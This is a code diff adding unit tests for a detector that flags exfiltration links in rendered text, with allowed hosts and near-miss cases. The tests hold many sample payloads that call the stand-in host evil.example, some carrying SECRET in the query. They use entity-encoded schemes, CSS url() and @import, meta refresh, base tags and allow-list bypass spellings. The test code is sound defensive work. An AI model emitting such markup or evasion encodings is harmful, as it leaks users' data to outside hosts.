@@ -128,3 +128,141 @@ test('exfil links: images_only, bare_urls and url data scoring', () => {
   assert.equal(externalHost('javascript:alert(1)'), null);
   assert.equal(externalHost('relative/path.png'), null);
 });
+
+test('exfil links: character references in URLs are decoded before the scheme, host and allow-list checks', () => {
+  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
+  // Every one of these is fetched (or offered) by a client that renders it: browsers decode references
+  // in attribute values (numeric ones also without ';') and drop tabs and newlines from URLs; CommonMark
+  // decodes them in link destinations. A finding still spans the markup as written.
+  const found: [string, string, number][] = [
+    ['<img src="https&#58;//evil.example/p?d=SECRET">', '<img src="https&#58;//evil.example/p?d=SECRET">', 0.95],
+    ['<img src="https&colon;//evil.example/p?d=SECRET">', '<img src="https&colon;//evil.example/p?d=SECRET">', 0.95],
+    ['<img src="&#104;&#116;&#116;&#112;&#115;://evil.example/x">', '<img src="&#104;&#116;&#116;&#112;&#115;://evil.example/x">', 0.9],
+    ['<img src="https&#x3a;&#X2F;&sol;evil.example/x">', '<img src="https&#x3a;&#X2F;&sol;evil.example/x">', 0.9],
+    ['<img src="https&#58//evil.example/x">', '<img src="https&#58//evil.example/x">', 0.9], // no ';': still decoded in HTML
+    ['<img src="&#47;&#47;evil.example/x">', '<img src="&#47;&#47;evil.example/x">', 0.9], // protocol-relative
+    ['<img src="ht&Tab;tps:&NewLine;//evil.example/x">', '<img src="ht&Tab;tps:&NewLine;//evil.example/x">', 0.9],
+    ['<img srcset="https&#58;//evil.example/a.png 1x, /b.png 2x">', '<img srcset="https&#58;//evil.example/a.png 1x, /b.png 2x">', 0.9],
+    // The host written with references: decoded, the allow-list sees the host a client fetches from.
+    ['<img src="https://evil.example&quest;.trusted.org/x">', '<img src="https://evil.example&quest;.trusted.org/x">', 0.95],
+    ['<img src="https://evil.example&sol;.trusted.org/x">', '<img src="https://evil.example&sol;.trusted.org/x">', 0.9],
+    ['<img src="https://evil.example&bsol;.trusted.org/x">', '<img src="https://evil.example&bsol;.trusted.org/x">', 0.9],
+    ['x ![a](https&#58;//evil.example/a?d=1) y', '![a](https&#58;//evil.example/a?d=1)', 0.95],
+    ['x [a](https&colon;&sol;&sol;evil.example/a) y', '[a](https&colon;&sol;&sol;evil.example/a)', 0.6],
+    ['x ![a](https://evil.example&num;.trusted.org/p.png) y', '![a](https://evil.example&num;.trusted.org/p.png)', 0.95],
+    // An iframe's srcdoc is a document of its own, its quotes written as references.
+    ['<iframe srcdoc="<img src=&quot;https://evil.example/x&quot;>"></iframe>', '<iframe srcdoc="<img src=&quot;https://evil.example/x&quot;>', 0.9],
+  ];
+  for (const [text, span, score] of found) {
+    const f = d.scan(text, ctx);
+    assert.deepEqual(f.map((x) => text.slice(x.start, x.end)), [span], text);
+    assert.equal(f[0].score, score, text);
+    assert.ok(!/evil|&|#/u.test(f[0].explanation), f[0].explanation);
+  }
+  // Reference-style, the definition's URL written with references.
+  const ref = '![logo][a] done.\n\n[a]: https&#58;//evil.example/i.png?d=abc\n';
+  assert.deepEqual(d.scan(ref, ctx).map((x) => ref.slice(x.start, x.end)), ['![logo][a]', '[a]: https&#58;//evil.example/i.png?d=abc']);
+  // Near misses: allowed hosts however written, and URLs that stay relative, data: or mailto: once decoded.
+  for (const ok of [
+    '<img src="https://docs&#46;example&period;com/a.png">',
+    '<img src="https&#58;//docs.example.com/a.png?x=1&amp;y=2">',
+    '<img src="https://docs.example.com/a.png?x=1&amp;y=2&amp;z=&#51;">',
+    '<img src="https://api&#x2e;trusted.org/a.png">',
+    '![x](https&#58;//docs.example.com/a.png)',
+    '![x](https://docs&#46;example.com/a.png)',
+    '<img src="data&#58;image/png;base64,AAAA">',
+    '<img src="&#47;local/a.png">',
+    '<img src="a&#47;b.png?c=1&amp;d=2">',
+    '[x](mailto&#58;a@b.c)',
+    '<a href="&#109;ailto:a@b.c">mail</a>',
+    '<img src="https&amp;#58;//evil.example/x">', // decoded once: the URL is "https&#58;//…", relative
+    'AT&T and R&D &amp; more &#58; text &colon; &#x3a',
+  ]) {
+    assert.deepEqual(d.scan(ok, ctx), [], ok);
+  }
+});
+
+test('exfil links: CSS url() and @import, and the other HTML shapes that fetch', () => {
+  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
+  // [text, the finding's span, score]. A CSS finding spans the url(…) token (or "@import" and its
+  // string): removed, no URL is left to fetch and the rest of the style stays. A tag spans the tag.
+  const found: [string, string, number][] = [
+    ['<div style="background:url(https://evil.example/x?d=SECRET)">hi</div>', 'url(https://evil.example/x?d=SECRET)', 0.95],
+    [`<p style="background-image: url('https://evil.example/x')">`, `url('https://evil.example/x')`, 0.9],
+    ['<p style="background:URL( https://evil.example/x )">', 'URL( https://evil.example/x )', 0.9],
+    ['<style>body{background:url("https://evil.example/x")}</style>', 'url("https://evil.example/x")', 0.9],
+    ['<style>@import url(https://evil.example/x.css);</style>', 'url(https://evil.example/x.css)', 0.9],
+    ['<style>@import "https://evil.example/x.css";</style>', '@import "https://evil.example/x.css"', 0.9],
+    ["<style>@IMPORT/* c */'//evil.example/x.css?d=1';</style>", "@IMPORT/* c */'//evil.example/x.css?d=1'", 0.95],
+    ['<style>@font-face{src:url(//evil.example/f.woff)}</style>', 'url(//evil.example/f.woff)', 0.9],
+    // The attribute value is decoded first, CSS escapes are decoded by CSS, and a url() the attribute
+    // cuts short runs to the end of the value (CSS fetches it).
+    ['<div style="background:u&#114;l(https&#58;//evil.example/x)">', 'u&#114;l(https&#58;//evil.example/x)', 0.9],
+    ['<div style="background:url&lpar;https://evil.example/x&rpar;">', 'url&lpar;https://evil.example/x&rpar;', 0.9],
+    ['<div style="background:url(https\\3a //evil.example/x)">', 'url(https\\3a //evil.example/x)', 0.9],
+    [`<div style="background:url('https\\:\\/\\/evil.example/x')">`, `url('https\\:\\/\\/evil.example/x')`, 0.9],
+    ['<div style="background:url(https://evil.example/x">', 'url(https://evil.example/x', 0.9],
+    // A quote of the other kind inside the string is part of the URL (userinfo here, the host is evil).
+    [`<div style="background:url('https://docs.example.com"@evil.example/x')">`, `url('https://docs.example.com"@evil.example/x')`, 0.95],
+    ['<rect fill="url(https://evil.example/p.svg#a)"/>', 'url(https://evil.example/p.svg#a)', 0.95],
+    // Tags: table backgrounds, meta refresh, base (it redirects every relative URL after it), frames,
+    // SVG filter images; and shapes the tag list already covered.
+    ['<body background="https://evil.example/x.png">', '<body background="https://evil.example/x.png">', 0.9],
+    ['<table background="https://evil.example/x.png"><tr><td>1</td></tr></table>', '<table background="https://evil.example/x.png">', 0.9],
+    ['<td background="//evil.example/x.png">', '<td background="//evil.example/x.png">', 0.9],
+    ['<meta http-equiv="refresh" content="0;url=https://evil.example/x?d=1">', '<meta http-equiv="refresh" content="0;url=https://evil.example/x?d=1">', 0.95],
+    [`<META HTTP-EQUIV=Refresh CONTENT="5; URL='https://evil.example/x'">`, `<META HTTP-EQUIV=Refresh CONTENT="5; URL='https://evil.example/x'">`, 0.9],
+    ['<meta http-equiv="refresh" content="0; https://evil.example/x">', '<meta http-equiv="refresh" content="0; https://evil.example/x">', 0.9],
+    ['<base href="https://evil.example/">', '<base href="https://evil.example/">', 0.9],
+    ['<frameset><frame src="https://evil.example/f"></frameset>', '<frame src="https://evil.example/f">', 0.9],
+    ['<svg><filter><feImage href="https://evil.example/x"/></filter></svg>', '<feImage href="https://evil.example/x"/>', 0.9],
+    ['<svg><image href="https://evil.example/x"/></svg>', '<image href="https://evil.example/x"/>', 0.9],
+    ['<svg><image xlink:href="https://evil.example/x"/></svg>', '<image xlink:href="https://evil.example/x"/>', 0.9],
+    ['<video poster="https://evil.example/x.png"></video>', '<video poster="https://evil.example/x.png">', 0.9],
+    ['<input type="image" src="https://evil.example/x.png">', '<input type="image" src="https://evil.example/x.png">', 0.9],
+    ['<link rel="prefetch" href="https://evil.example/x">', '<link rel="prefetch" href="https://evil.example/x">', 0.9],
+    ['<link rel="preload" as="image" href="https://evil.example/x">', '<link rel="preload" as="image" href="https://evil.example/x">', 0.9],
+    ['<link rel="stylesheet" href="https://evil.example/x.css">', '<link rel="stylesheet" href="https://evil.example/x.css">', 0.9],
+  ];
+  for (const [text, span, score] of found) {
+    const f = d.scan(text, ctx);
+    assert.deepEqual(f.map((x) => text.slice(x.start, x.end)), [span], text);
+    assert.equal(f[0].score, score, text);
+    assert.ok(!/evil/u.test(f[0].explanation), f[0].explanation);
+  }
+  // Inside the text of an allowed link, HTML and CSS are still read (a renderer that passes HTML
+  // through renders them there); the link itself stays.
+  for (const [text, span] of [
+    ['[<img src="https://evil.example/x">](https://docs.example.com/a)', '<img src="https://evil.example/x">'],
+    ['[<span style="background:url(https://evil.example/x)">a</span>](https://docs.example.com/a)', 'url(https://evil.example/x)'],
+  ]) {
+    assert.deepEqual(d.scan(text, ctx).map((x) => text.slice(x.start, x.end)), [span], text);
+  }
+  // A URL that leaves the page's host however it is spelled: a URL parser reads a backslash as '/' and drops
+  // tabs and newlines, so these are protocol-relative (before, only "//h" was).
+  for (const text of ['<img src="/\\evil.example/x">', '<img src="\\\\evil.example/x">', '<img src="/&Tab;/evil.example/x">']) {
+    assert.equal(d.scan(text, ctx).length, 1, text);
+  }
+  assert.deepEqual(d.scan('<img src="a\\b.png"> <img src="./x/../y.png">', ctx), []);
+  // images_only keeps them (they are fetched without a click).
+  assert.equal(createExfilLinksDetector({ id: 'e', imagesOnly: true }).scan('<p style="background:url(https://evil.example/x)">', ctx).length, 1);
+  // Near misses.
+  for (const ok of [
+    '<div style="background:url(data:image/png;base64,AAAA)">',
+    `<div style="background:url('data:image/svg+xml;utf8,<svg xmlns=%22http://www.w3.org/2000/svg%22/>')">`,
+    '<div style="background:url(/img.png)">',
+    '<div style="background:url(img/a.png?x=1)">',
+    '<div style="background:url(https://docs.example.com/bg.png?x=1)">',
+    '<div style="background:url(https&#58;//cdn.trusted.org/bg.png)">',
+    '<style>@import "local.css"; @import url(https://docs.example.com/a.css);</style>',
+    'Call url() with a path, or url( followed by nothing; the url(s) you sent were fine.',
+    'The function myurl(https://evil.example/x) and my-url(https://evil.example/x) are not CSS url().',
+    '<meta name="description" content="0;url=https://evil.example/x">',
+    '<meta property="og:image" content="https://evil.example/x.png">',
+    '<meta http-equiv="refresh" content="30">',
+    '<table background="bg.png"><td style="color:red">x</td></table>',
+    '@imports "https://evil.example/x.css"',
+  ]) {
+    assert.deepEqual(d.scan(ok, ctx), [], ok);
+  }
+});
